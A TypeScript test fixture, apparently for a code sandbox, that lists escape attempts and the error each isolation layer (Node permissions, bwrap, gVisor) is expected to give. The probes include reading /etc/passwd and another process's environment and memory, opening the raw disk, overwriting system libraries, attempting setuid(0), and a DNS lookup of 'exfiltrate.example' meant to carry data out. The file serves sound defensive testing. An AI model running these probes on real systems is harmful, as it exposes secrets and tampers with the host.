import type { Outermost } from "./walls.ts";

/** A process, a server and a file of this machine that escapes are tried on. */
export type Target = { readonly pid: number; readonly port: number; readonly file: string };

/**
 * What code tries that runs inside a wall with all of Node at hand, and what it meets there: an error's code or what it
 * printed. Behind "process" Node's permissions stand; behind bwrap and gVisor they are off, as if they had been broken, so that
 * each wall shows what it holds alone. Children have the permissions behind every wall.
 */
export type Escape = {
  readonly id: string;
  readonly attack: string;
  /** An expression over the target's names; what it throws, rejects with or emits as an error is its end, else "reached" and its text. */
  readonly program: string;
  readonly expected: Readonly<Record<Outermost, string>>;
};

type Row = readonly [id: string, attack: string, program: string];

/** Escapes that end alike, given how behind each wall. */
function ending(process: string, bwrap: string, gvisor: string, rows: readonly Row[]): readonly Escape[] {
  const expected = { process, bwrap, gvisor };
  return rows.map(([id, attack, program]) => ({ id, attack, program, expected }));
}

const DENIED = "ERR_ACCESS_DENIED";

const files = [
  ...ending(DENIED, "ENOENT", "ENOENT", [
    ["escape-read", "reading a file of the machine", "fs.readFileSync(file)"],
    ["escape-passwd", "reading the machine's accounts", "fs.readFileSync('/etc/passwd')"],
    [
      "escape-dots",
      "reading a file by way of dots and links",
      "fs.readFileSync('/lib/../proc/1/root' + file)",
    ],
    ["escape-overwrite", "writing to a file of the machine", "fs.writeFileSync(file, 'taken')"],
    ["escape-device", "opening the machine's disk", "fs.openSync('/dev/vda', 'r')"],
  ]),
  ...ending(DENIED, "EROFS", "EACCES", [
    [
      "escape-library",
      "replacing a library of the system",
      "fs.writeFileSync('/lib/nexus-escape.so', 'taken')",
    ],
    [
      "escape-shared-memory",
      "keeping bytes in memory that is nobody's",
      "fs.symlinkSync('x'.repeat(4000), '/dev/shm/nexus-escape')",
    ],
  ]),
  ...ending(DENIED, "EROFS", "EROFS", [
    [
      "escape-temporary",
      "leaving something among the temporary files",
      "fs.mkdirSync(fs.existsSync('/tmp') ? '/tmp/nexus-escape' : '/tmp')",
    ],
  ]),
];

const network = [
  ...ending(DENIED, "ECONNREFUSED", "ECONNREFUSED", [
    ["escape-tcp", "connecting to a server of the machine", "net.connect(port, '127.0.0.1')"],
  ]),
  ...ending(DENIED, "ENETUNREACH", "EHOSTUNREACH", [
    ["escape-internet", "connecting to another machine", "net.connect(80, '192.0.2.1')"],
    [
      "escape-udp",
      "sending a datagram",
      "new Promise((done, fail) => require('dgram').createSocket('udp4').send('x', 53, '192.0.2.1', (e) => (e ? fail(e) : done('sent'))))",
    ],
  ]),
  ...ending(DENIED, "EAI_AGAIN", "EAI_AGAIN", [
    [
      "escape-name",
      "looking up a name, which would carry data out",
      "require('dns').promises.lookup('exfiltrate.example')",
    ],
  ]),
];

const processes = [
  ...ending("reached true", "ESRCH", "ESRCH", [
    ["escape-signal", "finding a process of the machine to signal", "process.kill(pid, 0)"],
  ]),
  ...ending("reached undefined", "ESRCH", "ESRCH", [
    ["escape-debugger", "opening the inspector of a process of the machine", "process._debugProcess(pid)"],
  ]),
  ...ending("reached number", "ERR_SYSTEM_ERROR", "ERR_SYSTEM_ERROR", [
    ["escape-priority", "starving a process of the machine", "typeof require('os').getPriority(pid)"],
  ]),
  ...ending(DENIED, "ENOENT", "ENOENT", [
    [
      "escape-environment",
      "reading another process's environment",
      "fs.readFileSync('/proc/' + pid + '/environ')",
    ],
    [
      "escape-memory",
      "reading another process's memory, as a debugger would",
      "fs.openSync('/proc/' + pid + '/mem', 'r+')",
    ],
    [
      "escape-processes",
      "starting a program of the machine",
      "require('child_process').execFileSync('/bin/cat', ['/etc/passwd'])",
    ],
  ]),
];

const inside = [
  ...ending("reached {}", 'reached {"PWD":"/"}', 'reached {"HOME":"/"}', [
    ["escape-own-environment", "looking for secrets in its own environment", "JSON.stringify(process.env)"],
  ]),
  ...ending("reached 0", "reached 0", "reached 0", [
    [
      "escape-descriptors",
      "using a descriptor of its supervisor's",
      "Array.from({ length: 60 }, (_, fd) => fd + 3).filter((fd) => { try { return fs.fstatSync(fd).isSocket() && !fs.fstatSync(fd).isFIFO(); } catch { return false; } }).length",
    ],
  ]),
  ...ending("reached the same user", "reached the same user", "reached the same user", [
    [
      "escape-root",
      "becoming the machine's root, if the executor isn't",
      "(() => { const before = process.getuid(); try { process.setuid(0); } catch {} return process.getuid() === before ? 'the same user' : 'root'; })()",
    ],
  ]),
  ...ending("ERR_DLOPEN_DISABLED", "ERR_DLOPEN_FAILED", "ERR_DLOPEN_FAILED", [
    ["escape-addon", "loading machine code", "process.dlopen({ exports: {} }, '/tmp/nexus-escape.node')"],
  ]),
];

/** Attacks that each wall meets in its own way. */
export const ESCAPES: readonly Escape[] = [...files, ...network, ...processes, ...inside];
